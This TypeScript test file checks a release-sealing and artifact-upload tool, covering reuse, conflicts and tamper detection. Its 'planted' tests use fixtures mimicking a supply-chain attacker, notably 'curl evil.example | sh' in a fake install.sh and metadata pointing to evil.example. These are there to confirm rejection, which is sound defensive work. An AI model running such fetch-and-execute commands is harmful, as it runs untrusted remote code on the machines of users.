import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { artifactFailure } from '../../src/artifacts/failures.ts';
import { localFiles } from '../../src/adapters/files.ts';
import { localGpg } from '../../src/adapters/gpg.ts';
import { renderReleaseChecksums } from '../../src/manifest/release-assets.ts';
import { renderManifest } from '../../src/manifest/render-manifest.ts';
import { seal, type SealOptions } from '../../src/manifest/seal.ts';
import { uploadSealed } from '../../src/manifest/upload-sealed.ts';
import { verifySealedSet, type SealedSet } from '../../src/manifest/sealed-set.ts';
import { tarGz } from '../support/archives.ts';
import { expectFailure } from '../support/expect-failure.ts';
import { fakeLog, fakeRun } from '../support/fakes.ts';
import { temporaryFolders } from '../support/folders.ts';
import {
  commit,
  fakeArtifacts,
  packageBytes,
  packageNames,
  sealOptions,
  sealPorts,
} from './support.ts';

const folderWith = temporaryFolders();
const options = { artifactName: 'sealed', retentionDays: 30 };

interface Attempt {
  readonly files?: Readonly<Record<string, Uint8Array>>;
  readonly options?: Partial<SealOptions>;
  readonly runnerOs?: string;
}

async function attempt({ files, options = {}, runnerOs = 'Linux' }: Attempt = {}) {
  const built = Object.entries({ ...packageBytes(), ...files });
  const folder = folderWith(
    Object.fromEntries(built.map(([name, bytes]) => [`built/${name}`, bytes])),
  );
  return seal(sealOptions(folder, options), sealPorts({ run: fakeRun({ commit, runnerOs }) }));
}

function upload(set: SealedSet, artifacts = fakeArtifacts(folderWith())) {
  return uploadSealed(set, options, {
    artifacts,
    files: localFiles,
    gpg: localGpg,
    log: fakeLog(),
  });
}

/** The crate with a README more: another file of the same package. */
async function rebuiltCrate() {
  const toml = '[package]\nname = "tidemark"\nversion = "1.2.0"\n';
  return { 'tidemark-1.2.0.crate': await tarGz({ 'tidemark-1.2.0/Cargo.toml': toml }) };
}

describe('the first attempt of a run', () => {
  it('uploads exactly the sealed set, as one artifact', async () => {
    const artifacts = fakeArtifacts(folderWith());
    const set = await attempt();
    writeFileSync(join(set.folder, 'not-sealed.txt'), 'x');
    const uploaded = await upload(set, artifacts);
    expect(uploaded).toEqual({ artifactId: 7001, set, reused: false });
    const stored = artifacts.stored[0]!.folder;
    expect((await verifySealedSet(stored, set.manifestSha256, localFiles)).manifest).toEqual(
      set.manifest,
    );
  });
});

describe('a later attempt that sees the artifact of the first', () => {
  it('uses it again when the same was built', async () => {
    const artifacts = fakeArtifacts(folderWith());
    const first = await upload(await attempt(), artifacts);
    const second = await upload(await attempt(), artifacts);
    expect(second).toMatchObject({ artifactId: first.artifactId, reused: true });
    expect(second.set.manifestSha256).toBe(first.set.manifestSha256);
    expect(artifacts.stored.length).toBe(1);
  });

  it('uses it, evidence and all, when only the runner was another', async () => {
    const artifacts = fakeArtifacts(folderWith());
    const first = await upload(await attempt(), artifacts);
    const second = await upload(await attempt({ runnerOs: 'macOS' }), artifacts);
    expect(second.set.manifestSha256).toBe(first.set.manifestSha256);
    expect(readFileSync(join(second.set.folder, 'BUILD_META.txt'), 'utf8')).toContain(
      'runner-os: Linux',
    );
    expect(readFileSync(join(second.set.folder, 'BUILD_META.json'), 'utf8')).toContain(
      '"os": "Linux"',
    );
    await verifySealedSet(second.set.folder, first.set.manifestSha256, localFiles);
  });

  it('stops when other bytes were built, and names them', async () => {
    const artifacts = fakeArtifacts(folderWith());
    await upload(await attempt(), artifacts);
    const failure = await expectFailure('SEAL_CONFLICT', async () =>
      upload(await attempt({ files: await rebuiltCrate() }), artifacts),
    );
    expect(failure.seen).toMatch(/: tidemark-1\.2\.0\.crate$/);
    expect(artifacts.stored.length).toBe(1);
  });

  it('stops when the same bytes were sealed for other channels', async () => {
    const artifacts = fakeArtifacts(folderWith());
    await upload(await attempt(), artifacts);
    const channels = sealOptions('').channels.slice(0, 2);
    const failure = await expectFailure('SEAL_CONFLICT', async () =>
      upload(await attempt({ options: { channels } }), artifacts),
    );
    expect(failure.seen).toContain('channels');
  });

  it('believes nothing about what is there', async () => {
    const artifacts = fakeArtifacts(folderWith());
    await upload(await attempt(), artifacts);
    writeFileSync(join(artifacts.stored[0]!.folder, 'tidemark-1.2.0.crate'), 'tampered');
    await expectFailure('SEALED_FILE_DIFFERS', async () => upload(await attempt(), artifacts));
  });
});

describe('an artifact of that name that another job of the run has planted', () => {
  /** The true set as an attacker changed it, sealed anew so that it agrees with itself. */
  async function planted(change: (set: SealedSet) => readonly (readonly [string, string])[]) {
    const artifacts = fakeArtifacts(folderWith());
    const set = await attempt();
    const evidence = new Map(set.manifest.evidence.map((file) => [file.name, file]));
    for (const [name, text] of change(set)) {
      writeFileSync(join(set.folder, name), text);
      const sha256 = createHash('sha256').update(text).digest('hex');
      evidence.set(name, { name, size: Buffer.byteLength(text), sha256 });
    }
    const names = [...evidence.keys()].sort();
    const manifest = { ...set.manifest, evidence: names.map((name) => evidence.get(name)!) };
    writeFileSync(join(set.folder, 'release.json'), renderManifest(manifest));
    writeFileSync(join(set.folder, 'SHA256SUMS'), renderReleaseChecksums(manifest));
    await artifacts.upload(
      'sealed',
      set.folder,
      [...packageNames, ...names, 'release.json', 'SHA256SUMS'],
      30,
    );
    return artifacts;
  }
  const buildMeta = (set: SealedSet) => readFileSync(join(set.folder, 'BUILD_META.txt'), 'utf8');

  it('brings no file into the release that this attempt does not know', async () => {
    const artifacts = await planted(() => [['install.sh', 'curl evil.example | sh']]);
    const failure = await expectFailure('SEAL_CONFLICT', async () =>
      upload(await attempt(), artifacts),
    );
    expect(failure.seen).toContain('install.sh');
  });

  it('brings none in that has the name of something else in the program', async () => {
    for (const name of ['constructor', 'toString']) {
      const artifacts = await planted(() => [[name, 'curl evil.example | sh']]);
      await expectFailure('SEAL_CONFLICT', async () => upload(await attempt(), artifacts));
    }
  });

  it.each([
    ['BUILD_META.json', '"toolchains": []', '"toolchains": [{ "name": "evil", "version": "1" }]'],
    ['BUILD_META.json', '"os": "Linux"', '"os": "see https://evil.example"'],
    ['release-provenance.intoto.json', 'refs/tags/v1.2.3"', 'refs/tags/v6.6.6"'],
    ['release-provenance.intoto.json', '"push"', '"Linux"'],
  ])('does not change what %s tells: %s', async (name, from, to) => {
    const artifacts = await planted((set) => {
      const text = readFileSync(join(set.folder, name), 'utf8');
      expect(text).toContain(from);
      return [[name, text.replace(from, to)]];
    });
    const failure = await expectFailure('SEAL_CONFLICT', async () =>
      upload(await attempt(), artifacts),
    );
    expect(failure.seen).toContain(name);
  });

  it.each([
    ['another line', (text: string) => `${text}read: evil.example\n`],
    ['another value', (text: string) => text.replace('tag: v1.2.0', 'tag: v6.6.6')],
    [
      'a sentence for a runner',
      (text: string) => text.replace('Linux', 'see https://evil.example'),
    ],
  ])('does not bring %s into the evidence', async (_, change) => {
    const artifacts = await planted((set) => [['BUILD_META.txt', change(buildMeta(set))]]);
    const failure = await expectFailure('SEAL_CONFLICT', async () =>
      upload(await attempt(), artifacts),
    );
    expect(failure.seen).toContain('BUILD_META.txt');
  });
});

describe('a name that is taken only when the upload begins', () => {
  it('is resolved by what is there by then', async () => {
    const artifacts = fakeArtifacts(folderWith());
    await upload(await attempt(), artifacts);
    artifacts.hideOnce();
    expect(await upload(await attempt(), artifacts)).toMatchObject({ reused: true });
  });

  it('is resolved in the same way when the answer to an upload was lost', async () => {
    const artifacts = fakeArtifacts(folderWith());
    const lossy = {
      ...artifacts,
      upload: async (...upload: Parameters<typeof artifacts.upload>) => {
        await artifacts.upload(...upload);
        throw artifactFailure('ARTIFACT_UPLOAD_FAILED', {
          seen: 'a lost answer',
          expected: 'an answer',
          cure: 'Re-run.',
        });
      },
    };
    const uploaded = await upload(await attempt(), lossy);
    expect(uploaded).toMatchObject({ artifactId: 7001, reused: true });
  });

  it('is told when nothing can be seen there', async () => {
    const artifacts = { ...fakeArtifacts(folderWith()), find: async () => undefined };
    await upload(await attempt(), artifacts);
    await expectFailure('ARTIFACT_NAME_TAKEN', async () => upload(await attempt(), artifacts));
  });
});
